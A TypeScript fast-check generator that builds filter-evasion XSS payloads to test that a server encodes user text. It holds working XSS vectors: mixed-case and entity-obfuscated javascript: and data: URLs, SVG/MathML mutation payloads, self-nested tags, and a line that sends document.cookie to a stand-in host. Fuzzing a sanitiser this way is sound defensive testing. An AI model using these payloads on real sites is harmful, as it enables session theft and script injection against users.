import fc from 'fast-check';

/**
 * Hostile HTML built the way filter-evasion payloads are (OWASP's XSS filter evasion cheat sheet,
 * html5sec.org): random tags and event handlers, mixed case, `/`, tab and newline separators,
 * `javascript:` and `data:` hidden behind entities (zero-padded, without semicolons), tags nested
 * into themselves, SVG and MathML, and Unicode look-alikes of `<` and `>`. A server that encodes
 * text (TEXT-3) is indifferent to all of it; a server that filters markup lets some through.
 */

const TAGS = ['script', 'img', 'svg', 'math', 'iframe', 'a', 'body', 'style', 'object', 'embed', 'details', 'video', 'input', 'form', 'base', 'meta', 'link', 'marquee', 'textarea', 'title', 'noscript', 'template', 'xmp', 'plaintext'];
const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerenter', 'autofocus onfocus'];
const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'poster'];
const SEPARATORS = [' ', '/', '\t', '\n', '\r', '\f', '/ /', ' \n '];
const LOOKALIKE_LT = ['<', '＜', '﹤', '‹', '〈', '\u02c2', '%3C', '&lt', '&#60', '&#x3c;', '\\x3c', '\\u003c'];
const LOOKALIKE_GT = ['>', '＞', '﹥', '›', '〉', '\u02c3', '%3E', '&gt', '&#62;'];
const JS_CALLS = ['alert(1)', 'alert`1`', 'confirm(document.domain)', 'fetch(`//x.test/`+document.cookie)', 'eval(atob(`YWxlcnQoMSk=`))', 'top[`al`+`ert`](1)'];

const pick = <T>(xs: readonly T[]) => fc.constantFrom(...xs);

/** Random upper/lower case per character: ScRiPt. */
export const mixedCase = (word: string) =>
  fc.array(fc.boolean(), { minLength: word.length, maxLength: word.length }).map((flags) =>
    [...word].map((ch, i) => (flags[i] ? ch.toUpperCase() : ch.toLowerCase())).join(''),
  );

/** One character as an HTML entity: decimal or hex, zero-padded or not, with or without `;`. */
const entity = (ch: string) =>
  fc.record({ hex: fc.boolean(), pad: fc.integer({ min: 0, max: 7 }), semi: fc.boolean(), upper: fc.boolean() }).map(({ hex, pad, semi, upper }) => {
    const code = ch.codePointAt(0)!;
    const digits = hex ? code.toString(16) : String(code);
    const body = `${'0'.repeat(pad)}${upper ? digits.toUpperCase() : digits}`;
    return `&#${hex ? (upper ? 'X' : 'x') : ''}${body}${semi ? ';' : ''}`;
  });

/** A word with some characters entity-encoded and some split by tab or newline (browsers drop those in URLs). */
const obfuscated = (word: string) =>
  fc
    .tuple(...[...word].map((ch) => fc.oneof(fc.constant(ch), entity(ch), fc.constant(`${ch}\t`), fc.constant(`${ch}&#x0A;`), mixedCase(ch))))
    .map((parts) => parts.join(''));

const scheme = fc.oneof(obfuscated('javascript:'), fc.constant('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='), obfuscated('data:'), fc.constant(' javascript:'), fc.constant('vbscript:'));

const quote = pick(['"', "'", '`', '']);

const handlerAttr = fc.tuple(pick(SEPARATORS), pick(HANDLERS).chain(mixedCase), pick(['=', ' = ', '=\n']), quote, pick(JS_CALLS)).map(
  ([sep, h, eq, q, js]) => `${sep}${h}${eq}${q}${js}${q}`,
);

const urlAttr = fc.tuple(pick(SEPARATORS), pick(URL_ATTRS), quote, scheme, pick(JS_CALLS)).map(([sep, a, q, s, js]) => `${sep}${a}=${q}${s}${js}${q}`);

const tag = fc
  .tuple(pick(TAGS).chain(mixedCase), fc.array(fc.oneof(handlerAttr, urlAttr), { maxLength: 3 }), pick(LOOKALIKE_LT), pick(LOOKALIKE_GT), fc.boolean(), pick(JS_CALLS))
  .map(([name, attrs, lt, gt, close, js]) => `${lt}${name}${attrs.join('')}${gt}${close ? `${js}${lt}/${name}${gt}` : ''}`);

/** `<scr<script>ipt>`: what is left after a filter removes the inner tag is the outer one. */
const selfNested = fc.tuple(pick(['script', 'img', 'iframe', 'svg']), fc.integer({ min: 1, max: 4 }), pick(JS_CALLS)).map(([name, cut, js]) => {
  const at = Math.min(cut, name.length - 1);
  return `<${name.slice(0, at)}<${name}>${name.slice(at)}>${js}</${name.slice(0, at)}</${name}>${name.slice(at)}>`;
});

const foreignContent = pick([
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<ſcript>alert(1)</ſcript>',
  '＜script＞alert(1)＜/script＞',
  '<img src=x oNeRrOr=alert(1)//',
  '<details open ontoggle=alert(1)>',
]);

/** Plain text around the payload, so that it is also tested mid-sentence. */
const filler = fc.string({ maxLength: 12 });

export const hostileHtml: fc.Arbitrary<string> = fc
  .tuple(filler, fc.array(fc.oneof(tag, selfNested, foreignContent, handlerAttr, urlAttr), { minLength: 1, maxLength: 4 }), filler)
  .map(([a, parts, b]) => `${a}${parts.join('')}${b}`);
